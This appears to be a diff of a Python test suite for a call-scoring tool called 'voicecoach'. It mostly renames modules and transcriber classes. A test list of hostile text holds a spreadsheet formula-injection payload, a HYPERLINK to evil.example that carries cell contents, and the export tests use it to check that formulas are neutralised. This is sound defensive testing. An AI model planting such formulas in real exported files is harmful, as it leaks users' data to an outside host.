@@ -8,7 +8,6 @@ import csv
 import json
 import multiprocessing
 import os
-import shutil
 import signal
 import sqlite3
 import subprocess
@@ -36,7 +35,7 @@ def _row(key: str, **kw) -> dict:
 
 
 def _claim_all(db: str, owner: str, keys: list[str], start, out) -> None:
-    from voicecoach.store import Store
+    from voicecoach.qa.store import Store
 
     start.wait()
     store = Store(db)  # every process opens (and would create) the new store at once
@@ -60,7 +59,7 @@ def test_two_batches_on_a_new_store_share_the_calls_without_doubles(tmp_path):
 
 
 def test_a_claim_of_a_dead_batch_is_taken_over_and_a_finished_call_is_not_claimed(tmp_path):
-    from voicecoach.store import Store, owner_id
+    from voicecoach.qa.store import Store, owner_id
 
     store = Store(tmp_path / "s.sqlite")
     assert store.claim("a", "elsewhere:1")  # another host: held until its lease ends
@@ -78,7 +77,7 @@ def test_a_claim_of_a_dead_batch_is_taken_over_and_a_finished_call_is_not_claime
 
 
 def test_a_full_disk_stops_with_a_clear_message_and_keeps_the_rows(tmp_path):
-    from voicecoach.store import Store
+    from voicecoach.qa.store import Store
 
     db = tmp_path / "full.sqlite"
     store = Store(db)
@@ -111,7 +110,7 @@ HOSTILE_TEXT = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1", 
 
 
 def _store_with_hostile_text(tmp_path):
-    from voicecoach.store import Store
+    from voicecoach.qa.store import Store
 
     store = Store(tmp_path / "r.sqlite")
     for i, text in enumerate(HOSTILE_TEXT):
@@ -121,7 +120,7 @@ def _store_with_hostile_text(tmp_path):
 
 
 def test_csv_export_neutralises_formulas(tmp_path):
-    from voicecoach.export import export
+    from voicecoach.qa.export import export
 
     export(_store_with_hostile_text(tmp_path), tmp_path / "x.csv")
     with open(tmp_path / "x.csv", encoding="utf-8-sig", newline="") as f:
@@ -139,7 +138,7 @@ def test_csv_export_neutralises_formulas(tmp_path):
 def test_xlsx_export_holds_text_never_formulas(tmp_path):
     from openpyxl import load_workbook
 
-    from voicecoach.export import export
+    from voicecoach.qa.export import export
 
     export(_store_with_hostile_text(tmp_path), tmp_path / "x.xlsx")
     ws = load_workbook(tmp_path / "x.xlsx")["calls"]
@@ -151,7 +150,7 @@ def test_xlsx_export_holds_text_never_formulas(tmp_path):
 
 
 def test_a_failed_export_leaves_no_half_file(tmp_path, monkeypatch):
-    import voicecoach.export as ex
+    import voicecoach.qa.export as ex
 
     store = _store_with_hostile_text(tmp_path)
     (tmp_path / "x.xlsx").write_bytes(b"the old export")
@@ -171,7 +170,7 @@ def test_a_failed_export_leaves_no_half_file(tmp_path, monkeypatch):
 
 
 def test_manifest_entries_stay_in_the_folders_named(tmp_path):
-    from voicecoach.batch import discover
+    from voicecoach.qa.inputs import discover
 
     calls = tmp_path / "calls"
     calls.mkdir()
@@ -199,13 +198,13 @@ def test_manifest_entries_stay_in_the_folders_named(tmp_path):
 
 
 def _cached_entry(tmp_path):
-    from synth import FakeTranscriber, utterance
-    from voicecoach.transcribe import CachedTranscriber
+    from synth import FakeRecognizer, utterance
+    from voicecoach.recognize import CachedRecognizer
 
     sp = utterance([4, 4])
-    fake = FakeTranscriber(sp.chars)
-    cached = CachedTranscriber(fake, tmp_path / "cache")
-    first = cached.transcribe(sp.audio)
+    fake = FakeRecognizer(sp.chars)
+    cached = CachedRecognizer(fake, tmp_path / "cache")
+    first = cached.recognize(sp.samples, sample_rate_hz=sp.sr)
     return cached, fake, sp.audio, first, next((tmp_path / "cache").rglob("*.json"))
 
 
@@ -231,10 +230,10 @@ def test_an_invalid_cache_entry_is_replaced_not_trusted(tmp_path, damage):
          "hand edit": lambda: entry.write_text(json.dumps({**json.loads(json.dumps(d)), "language": "en", "_sha256": "0" * 64}))}[damage]()
     else:
         entry.write_text(json.dumps(d), encoding="utf-8")
-    again = cached.transcribe(audio)  # no hang, no crash: transcribed again
+    again = cached.recognize(audio.samples, sample_rate_hz=audio.sample_rate_hz)  # no hang, no crash: transcribed again
     assert fake.calls == 2 and again == first
     if damage != "folder":
-        assert cached.transcribe(audio) == first and fake.calls == 2  # and the entry was replaced
+        assert cached.recognize(audio.samples, sample_rate_hz=audio.sample_rate_hz) == first and fake.calls == 2  # and the entry was replaced
     assert not [p for p in entry.parent.iterdir() if p.name.endswith(".tmp")]
 
 
@@ -243,11 +242,11 @@ def test_a_valid_entry_without_checksum_from_an_older_version_is_still_used(tmp_
     d = json.loads(entry.read_text(encoding="utf-8"))
     d.pop("_sha256")
     entry.write_text(json.dumps(d), encoding="utf-8")
-    assert cached.transcribe(audio) == first and fake.calls == 1
+    assert cached.recognize(audio.samples, sample_rate_hz=audio.sample_rate_hz) == first and fake.calls == 1
 
 
 def test_a_failed_cache_write_leaves_nothing_behind(tmp_path, monkeypatch):
-    import voicecoach.cache_check as cc
+    import voicecoach.recognize.cache_check as cc
 
     def fail(obj, f, **kw):
         f.write("{\"half")
@@ -260,7 +259,7 @@ def test_a_failed_cache_write_leaves_nothing_behind(tmp_path, monkeypatch):
 
 
 def test_a_model_folder_missing_a_file_fails_at_once_without_the_network(tmp_path, monkeypatch):
-    from voicecoach.models import resolve_model
+    from voicecoach.recognize.models import resolve_model
 
     monkeypatch.delenv("HF_HUB_OFFLINE", raising=False)
     folder = tmp_path / "my-model"
@@ -302,7 +301,7 @@ def test_targets_check_rejects_bad_overall_sections(tmp_path, body, message):
 
 
 def test_batch_progress_is_printed_as_lines_when_not_a_terminal(capsys):
-    from voicecoach.batch import Progress
+    from voicecoach.qa.batch import Progress
     from voicecoach.cli import _batch_progress
 
     show, stop = _batch_progress(40)  # pytest's stderr is not a terminal
@@ -317,8 +316,8 @@ def test_batch_progress_is_printed_as_lines_when_not_a_terminal(capsys):
 
 
 _FAKE_CLI = (
-    "import sys; sys.path.insert(0, {tests!r}); from hostile.fake import BurstTranscriber; "
-    "import voicecoach.cli as c; c._transcriber = lambda *a, **k: BurstTranscriber(); sys.argv = ['voicecoach'] + sys.argv[1:]; c.main()"
+    "import sys; sys.path.insert(0, {tests!r}); from hostile.fake import BurstRecognizer; "
+    "import voicecoach.recognize as r; r.build_recognizer = lambda *a, **k: BurstRecognizer(); import voicecoach.cli as c; sys.argv = ['voicecoach'] + sys.argv[1:]; c.main()"
 )
 
 
@@ -339,11 +338,11 @@ def test_analyze_into_a_closed_pipe_ends_quietly(tmp_path):
 
 def test_a_read_only_or_full_output_folder_is_one_clear_line(tmp_path, monkeypatch):
     from hostile.corpus import speech
-    from hostile.fake import BurstTranscriber
-    import voicecoach.cli as cli
+    from hostile.fake import BurstRecognizer
+    import voicecoach.recognize as recognize
     import voicecoach.report as report
 
-    monkeypatch.setattr(cli, "_transcriber", lambda *a, **k: BurstTranscriber())
+    monkeypatch.setattr(recognize, "build_recognizer", lambda *a, **k: BurstRecognizer())
     wav = tmp_path / "take.wav"
     sf.write(wav, speech(), 16000)
     real = report._write_into
@@ -442,31 +441,25 @@ def test_two_batch_commands_at_once_on_a_new_store_score_each_call_once(tmp_path
 
 
 def test_a_call_over_its_time_limit_becomes_an_error_row_and_the_worker_goes_on(tmp_path, monkeypatch):
-    import voicecoach.batch as batch
+    import voicecoach.qa.work as batch
     from hostile.corpus import speech
-    from hostile.fake import BurstTranscriber
-    from voicecoach.targets import load_targets
+    from hostile.fake import BurstRecognizer
+    from voicecoach.judge.targets import load_targets
 
-    class Slow(BurstTranscriber):
-        @property
-        def model(self):  # its own cache key: a transcript cached by another test must not answer for it
-            from voicecoach.models import ModelSpec
-
-            return ModelSpec("slow", "<slow>", "5" * 64, "fake")
-
-        def transcribe(self, audio):
+    class Slow(BurstRecognizer):  # its own cache key (the fingerprint names the class): a transcript cached by another test must not answer for it
+        def recognize(self, samples, *, sample_rate_hz):
             time.sleep(3.0)
-            return super().transcribe(audio)
+            return super().recognize(samples, sample_rate_hz=sample_rate_hz)
 
     wav = tmp_path / "slow call.wav"
     sf.write(wav, speech(), 16000)
-    monkeypatch.setattr(batch, "_WORKER", {"settings": batch.BatchSettings(time_limit_s=1.0), "transcriber": Slow(),
+    monkeypatch.setattr(batch, "_WORKER", {"settings": batch.BatchSettings(time_limit_s=1.0), "recognizer": Slow(),
                                            "targets": load_targets(), "name": "test"})
     t0 = time.monotonic()
     out = batch.score({"path": str(wav), "channel": "mix"})
     assert time.monotonic() - t0 < 2.5
     assert out["status"] == "error" and out["code"] == "time_limit"
     assert out["message"] == "slow call.wav took more than 1 s to score and was stopped; split the recording, or raise --time-limit"
-    monkeypatch.setitem(batch._WORKER, "transcriber", BurstTranscriber())
+    monkeypatch.setitem(batch._WORKER, "recognizer", BurstRecognizer())
     assert batch.score({"path": str(wav), "channel": "mix"})["status"] == "done"  # the timer is disarmed after each call
     time.sleep(1.2)  # and does not fire later
